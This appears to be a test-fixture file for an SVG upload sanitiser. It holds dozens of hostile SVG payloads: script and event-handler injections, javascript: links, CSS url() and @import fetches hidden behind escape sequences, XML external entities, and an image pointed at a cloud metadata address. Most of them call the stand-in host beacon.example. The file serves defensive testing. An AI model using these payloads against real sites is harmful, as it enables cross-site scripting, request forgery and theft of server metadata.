/**
 * Hostile SVG uploads: each a whole document that, opened as it is (a
 * visitor following the media url, no site CSP), runs script or fetches
 * from outside the drawing. Every fetch and every script goes to BEACON,
 * so "nothing reached BEACON" is the test in a real browser
 * (test/browser/svg-vectors.test.ts) and "BEACON is gone" the quick one in
 * unit tests (src/node/media-safety/svg-vectors.test.ts). The `css-escape`
 * family hides the fetching CSS behind escapes (CSS Syntax 3: `\` + hex
 * digits + one optional whitespace, or `\` + any character).
 */
export const BEACON_HOST = 'beacon.example';
const B = `http://${BEACON_HOST}`;

type SvgFamily = 'script' | 'event' | 'href' | 'css' | 'css-escape' | 'xml';

export interface SvgVector {
  name: string;
  family: SvgFamily;
  svg: string;
}

/** A document around `inner`, with a shape that survives sanitising (so what is left is still a drawing). */
const doc = (inner: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100"${attrs}><rect id="r" width="100" height="100" fill="#0e6f80"/><text x="10" y="50">Marea</text>${inner}</svg>`;
const run = (name: string) => `fetch('${B}/${name}')`;

const vectors: [SvgFamily, string, string][] = [
  // Script and event handlers (the first round's families).
  ['script', 'script element', doc(`<script>${run('script')}</script>`)],
  ['script', 'script with an outside href', doc(`<script href="${B}/script-href.js"/>`)],
  ['script', 'script with an outside xlink:href', doc(`<script xlink:href="${B}/script-xlink.js"/>`)],
  ['script', 'script in CDATA', doc(`<script><![CDATA[${run('cdata')}]]></script>`)],
  [
    'script',
    'foreignObject with an HTML script',
    doc(`<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run('fo')}</script></body></foreignObject>`),
  ],
  ['script', 'foreignObject with an iframe', doc(`<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${B}/fo-iframe"/></foreignObject>`)],
  ['script', 'HTML script outside foreignObject', doc(`<script xmlns="http://www.w3.org/1999/xhtml">${run('xhtml-script')}</script>`)],
  ['event', 'onload on the root', doc('', ` onload="${run('onload')}"`)],
  ['event', 'onload on an image', doc(`<image href="#r" width="1" height="1" onload="${run('image-onload')}"/>`)],
  ['event', 'onbegin of an animation', doc(`<animate attributeName="x" dur="1s" onbegin="${run('onbegin')}"/>`)],
  ['event', 'set an onload attribute', doc(`<set attributeName="onload" to="${run('set-onload')}"/>`)],
  ['event', 'onclick, onmouseover', doc(`<circle r="5" onclick="${run('onclick')}" onmouseover="${run('onmouseover')}"/>`)],
  ['href', 'link to javascript:', doc(`<a xlink:href="javascript:${run('js-link')}"><circle r="5"/></a>`)],
  ['href', 'link to another site', doc(`<a href="${B}/link"><circle r="5"/></a>`)],
  ['href', 'image from another site', doc(`<image href="${B}/image.png" width="10" height="10"/>`)],
  ['href', 'image by xlink:href', doc(`<image xlink:href="${B}/image-xlink.png" width="10" height="10"/>`)],
  ['href', 'image from a cloud metadata address', doc('<image href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/>')],
  ['href', 'image as a data: HTML document', doc('<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="10" height="10"/>')],
  ['href', 'use of an outside sprite', doc(`<use href="${B}/sprite.svg#r"/>`)],
  ['href', 'use with another prefix for xlink', doc(`<use xmlns:l="http://www.w3.org/1999/xlink" l:href="${B}/prefix.svg#r"/>`)],
  ['href', 'feImage from another site', doc(`<filter id="f"><feImage href="${B}/feimage.png"/></filter><rect width="10" height="10" filter="url(#f)"/>`)],
  ['href', 'animate an href to javascript:', doc(`<a><animate attributeName="href" values="javascript:${run('animate-href')}"/><circle r="5"/></a>`)],
  ['href', 'set an href to another site', doc(`<image width="10" height="10"><set attributeName="href" to="${B}/set-href.png"/></image>`)],
  ['css', 'fill: url() in a style attribute', doc(`<circle r="5" style="fill: url(${B}/style-attr)"/>`)],
  ['css', 'fill presentation attribute', doc(`<circle r="5" fill="url(${B}/fill-attr#g)"/>`)],
  ['css', 'filter presentation attribute', doc(`<circle r="5" filter="url(${B}/filter.svg#f)"/>`)],
  ['css', 'mask presentation attribute', doc(`<circle r="5" mask="url(${B}/mask.svg#m)"/>`)],
  ['css', 'clip-path presentation attribute', doc(`<circle r="5" clip-path="url(${B}/clip.svg#c)"/>`)],
  ['css', 'marker-start presentation attribute', doc(`<path d="M0 0L9 9" stroke="black" marker-start="url(${B}/marker.svg#m)"/>`)],
  ['css', '@import url()', doc(`<style>@import url(${B}/import.css); rect { fill: red }</style>`)],
  ['css', '@import of a string', doc(`<style>@import "${B}/import-string.css";</style>`)],
  ['css', '@import in CDATA', doc(`<style><![CDATA[@import url(${B}/import-cdata.css);]]></style>`)],
  ['css', 'background-image url() in a stylesheet', doc(`<style>svg { background-image: url(${B}/background.png) }</style>`)],
  ['css', 'cursor url()', doc(`<style>rect { cursor: url(${B}/cursor.png), auto }</style>`)],
  ['css', 'mask-image url() in a style attribute', doc(`<circle r="5" style="mask-image: url(${B}/mask-image.png)"/>`)],
  ['css', '@font-face src url(), used by the text', doc(`<style>@font-face { font-family: b; src: url(${B}/font.woff) } text { font-family: b }</style>`)],
  ['css', 'upper-case URL(', doc(`<style>svg { background-image: URL(${B}/upper.png) }</style>`)],
  ['css', 'url() after a fragment url()', doc(`<style>rect { fill: url(#g), url(${B}/second.png) }</style>`)],
  ['css', 'XML character reference in a style attribute', doc(`<circle r="5" style="fill: &#x75;rl(${B}/entity)"/>`)],
  // The five escapes a review found (each fetched a beacon), then more of the same kind.
  ['css-escape', '\\75 rl( in a stylesheet', doc(`<style>svg { background-image: \\75 rl(${B}/escape-url.png) }</style>`)],
  ['css-escape', '@\\69mport', doc(`<style>@\\69mport "${B}/escape-import.css";</style>`)],
  ['css-escape', 'image-set() of a string', doc(`<style>svg { background-image: image-set("${B}/image-set.png" 1x) }</style>`)],
  ['css-escape', '@font-face src with an escaped url', doc(`<style>@font-face { font-family: b; src: \\75rl(${B}/escape-font.woff) } text { font-family: b }</style>`)],
  ['css-escape', 'escaped url in a style attribute', doc('', ` style="background-image: \\75 rl(${B}/escape-style-attr.png)"`)],
  ['css-escape', 'six hex digits: \\000075rl(', doc(`<style>svg { background-image: \\000075rl(${B}/six-hex.png) }</style>`)],
  ['css-escape', 'upper-case hex: \\55 RL(', doc(`<style>svg { background-image: \\55 RL(${B}/upper-hex.png) }</style>`)],
  ['css-escape', 'a character escape: u\\rl(', doc(`<style>svg { background-image: u\\rl(${B}/char-escape.png) }</style>`)],
  ['css-escape', 'every letter escaped: \\75\\72\\6c(', doc(`<style>svg { background-image: \\75\\72\\6c(${B}/all-escaped.png) }</style>`)],
  ['css-escape', 'escape ended by a line break', doc(`<style>svg { background-image: \\75\nrl(${B}/escape-newline.png) }</style>`)],
  ['css-escape', 'escaped last letter: ur\\l(', doc(`<style>svg { background-image: ur\\l(${B}/last-letter.png) }</style>`)],
  ['css-escape', '@\\000069mport', doc(`<style>@\\000069mport url(${B}/six-hex-import.css);</style>`)],
  ['css-escape', '@\\49MPORT, upper case', doc(`<style>@\\49MPORT url(${B}/upper-import.css);</style>`)],
  ['css-escape', 'an escaped host in an @import string', doc(`<style>@import "\\68ttp://${BEACON_HOST}/escaped-host.css";</style>`)],
  ['css-escape', '-webkit-image-set() of a string', doc(`<style>svg { background-image: -webkit-image-set("${B}/webkit-image-set.png" 1x) }</style>`)],
  ['css-escape', 'escaped image-set: \\69mage-set(', doc(`<style>svg { background-image: \\69mage-set("${B}/escaped-image-set.png" 1x) }</style>`)],
  ['css-escape', 'image-set() in a style attribute', doc('', ` style="background-image: image-set('${B}/image-set-attr.png' 1x)"`)],
  ['css-escape', 'escaped @font-face, plain url', doc(`<style>@\\66ont-face { font-family: b; src: url(${B}/escaped-font-face.woff) } text { font-family: b }</style>`)],
  ['css-escape', '@font-face src after local()', doc(`<style>@font-face { font-family: b; src: local(Nope), \\75rl(${B}/after-local.woff) } text { font-family: b }</style>`)],
  ['css-escape', 'escaped url in a fill attribute', doc(`<circle r="5" fill="\\75rl(${B}/fill-escape#g)"/>`)],
  ['css-escape', 'a comment inside: @import/**/', doc(`<style>@import/**/"${B}/comment-import.css";</style>`)],
  ['css-escape', 'cursor with an escaped url', doc(`<style>rect { cursor: \\75rl(${B}/cursor-escape.png), auto }</style>`)],
  ['css-escape', 'escaped url in a mask-image style attribute', doc(`<circle r="5" style="mask-image: \\75rl(${B}/mask-escape.png)"/>`)],
  // XML around the drawing.
  ['xml', 'xml-stylesheet processing instruction', `<?xml-stylesheet href="${B}/pi.css" type="text/css"?>${doc('')}`],
  ['xml', 'a processing instruction inside the drawing', doc(`<?xml-stylesheet href="${B}/inner-pi.css"?>`)],
  ['xml', 'an external entity', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${B}/entity.xml">]>${doc('<text>&x;</text>')}`],
  ['xml', 'an external DTD', `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${B}/doctype.dtd">${doc('')}`],
  ['xml', 'xml:base on a same-document use', doc(`<g xml:base="${B}/base/"><use href="#r"/></g>`)],
  ['xml', 'an XHTML stylesheet link', doc(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${B}/link.css"/>`)],
];

export const SVG_VECTORS: readonly SvgVector[] = vectors.map(([family, name, svg]) => ({ family, name, svg }));

/** What the sanitiser must keep: references inside the drawing. Each with a string the result still holds. */
export const SVG_KEPT: readonly [string, string, string][] = [
  ['a gradient by fragment', doc('<linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><circle r="5" fill="url(#g)"/>'), 'fill="url(#g)"'],
  [
    'a stylesheet that only styles',
    doc('<style>circle { fill: url(#g) } rect { stroke: #123 }</style><circle r="5"/>'),
    '<style>circle { fill: url(#g) } rect { stroke: #123 }</style>',
  ],
  ['use of a shape of the drawing', doc('<use href="#r"/>'), '<use href="#r"/>'],
  ['an escaped fragment url', doc('<circle r="5" fill="url(\\23 g)"/>'), 'fill="url(\\23 g)"'],
];
